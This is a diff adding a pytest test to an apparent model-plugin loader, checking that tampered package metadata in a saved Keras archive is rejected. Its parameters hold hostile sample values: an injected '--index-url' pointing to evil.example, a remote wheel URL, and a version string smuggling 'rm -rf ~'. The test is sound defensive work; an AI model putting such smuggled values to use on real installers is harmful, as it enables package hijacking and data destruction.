@@ -111,6 +111,37 @@ def test_a_damaged_note_is_done_without(site, shifted, tmp_path, comment):
         kplug.load_model(tmp_path / "model.keras")
 
 
+NOTE = {"distribution": "kplug-shift", "version": "1.2", "component": "shift/shift_layer"}
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"distribution": "evil"},
+        {"distribution": "kplug-shift --index-url https://evil.example"},
+        {"distribution": "kplug-shift @ https://evil.example/x.whl"},
+        {"distribution": "kplug-shift\n"},
+        {"distribution": ["kplug-shift"]},
+        {"version": "1.2; rm -rf ~"},
+        {"version": "1.2 --pre"},
+        {"version": "--pre"},
+        {"version": ""},
+        {"version": None},
+        {"component": "shift/shift_layer from elsewhere: pip install evil"},
+        {"component": "other/shift_layer"},
+        {"component": 3},
+    ],
+)
+def test_a_note_that_kplug_would_not_have_written_is_not_shown(site, shifted, tmp_path, changes):
+    shifted.save(tmp_path / "model.keras")
+    forget(site)
+    with zipfile.ZipFile(tmp_path / "model.keras", "a") as archive:
+        archive.comment = json.dumps({"kplug": {"shift>Shift": {**NOTE, **changes}}}).encode()
+    with pytest.raises(SavedModelError, match=r"called kplug-shift or shift, or import what defines") as caught:
+        kplug.load_model(tmp_path / "model.keras")
+    assert "evil" not in str(caught.value)
+
+
 def test_another_version_than_the_one_it_was_saved_with_is_named(site, shifted, tmp_path, install_plugin):
     save_model(shifted, tmp_path)
     forget(site)
